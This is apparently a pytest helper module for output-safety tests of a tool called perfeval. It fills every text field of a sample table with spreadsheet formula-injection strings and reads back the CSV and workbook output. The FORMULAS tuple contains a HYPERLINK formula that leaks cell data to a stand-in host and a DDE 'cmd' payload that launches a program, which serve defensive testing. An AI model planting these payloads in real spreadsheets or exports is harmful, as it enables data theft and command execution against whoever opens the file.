"""Hostile tables for the output-safety tests: texts a spreadsheet would evaluate, and how to read them back.

A hostile table is a bundled Yunnan table whose every input text — project,
department, implementer, goals, notes, indicator texts and actuals — is
replaced by one of :data:`FORMULAS`; the tests then look for each of those
texts in the CSV and the working paper.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

import perfeval

SCRIPT = Path(sys.executable).with_name("perfeval")
COMMAND = [str(SCRIPT)] if SCRIPT.exists() else [sys.executable, "-m", "perfeval.cli"]

#: Texts that Excel would evaluate if they reached a cell as they are.
FORMULAS = (
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=1",
    "#N/A",
)

#: The table fields, by JSON path, that the hostile table fills with :data:`FORMULAS` (in turn).
TEXT_FIELDS = (
    ("project",),
    ("department",),
    ("implementer",),
    ("notes",),
    ("goals", "expected"),
    ("goals", "achieved"),
    ("indicators", 0, "level1"),
    ("indicators", 0, "level2"),
    ("indicators", 0, "name"),
    ("indicators", 0, "unit"),
    ("indicators", 0, "explanation"),
    ("indicators", 1, "actual"),
    ("indicators", 2, "target"),
)


def sample() -> dict[str, Any]:
    """The first bundled table as a JSON object."""
    data: dict[str, Any] = json.loads(perfeval.example_paths()[0].read_text(encoding="utf-8"))
    return data


def put(table: dict[str, Any], path: tuple[str | int, ...], value: str) -> None:
    """Set one field of a JSON table, making the objects on the way."""
    node: Any = table
    for key in path[:-1]:
        node = node.setdefault(key, {}) if isinstance(node, dict) else node[key]
    node[path[-1]] = value


def hostile_table(texts: tuple[str, ...] = FORMULAS) -> dict[str, Any]:
    """The first bundled table with every field of :data:`TEXT_FIELDS` set to one of ``texts``, in turn."""
    table = copy.deepcopy(sample())
    for n, path in enumerate(TEXT_FIELDS):
        put(table, path, texts[n % len(texts)])
    return table


def run(*args: str | Path, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    """Run ``perfeval ARGS`` in a subprocess; fail on anything that looks like a traceback or an internal error."""
    proc = subprocess.run(
        [*COMMAND, *map(str, args)], capture_output=True, text=True, encoding="utf-8", timeout=120, cwd=cwd
    )
    assert "Traceback" not in proc.stderr, proc.stderr
    assert "internal error" not in proc.stderr, proc.stderr
    return proc


def cli(capsys: pytest.CaptureFixture[str], *args: str | Path) -> tuple[int, str, str]:
    """Run ``perfeval ARGS`` in this process (fast): the exit status, standard output and standard error."""
    from perfeval.cli import main

    status = main([str(a) for a in args])
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err
    assert "internal error" not in captured.err, captured.err
    return status, captured.out, captured.err


def csv_rows(data: bytes) -> list[dict[str, str]]:
    """The rows of a CSV written by perfeval (UTF-8 with a BOM)."""
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def workbook_cells(path: Path) -> list[Any]:
    """Every non-empty cell of every sheet of a workbook (openpyxl, formulas not evaluated)."""
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.load_workbook(path)
    return [cell for ws in book for row in ws.iter_rows() for cell in row if cell.value is not None]
